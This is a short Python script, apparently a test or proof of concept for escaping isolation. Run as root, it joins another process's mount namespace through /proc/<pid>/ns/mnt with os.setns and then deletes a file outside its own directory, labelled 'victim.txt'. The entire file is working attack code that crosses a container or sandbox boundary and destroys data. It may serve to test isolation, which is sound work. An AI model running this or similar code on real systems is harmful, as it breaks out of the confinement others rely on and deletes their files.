# The run joins the mounts and the root of another process.
# damage: deleted
# needs: linux, python>=3.12, root
import os

victim = os.path.abspath("../outside/victim.txt")
with open("pid") as file:
    process = file.read()
os.setns(os.open(f"/proc/{process}/ns/mnt", os.O_RDONLY), os.CLONE_NEWNS)
os.unlink(victim)
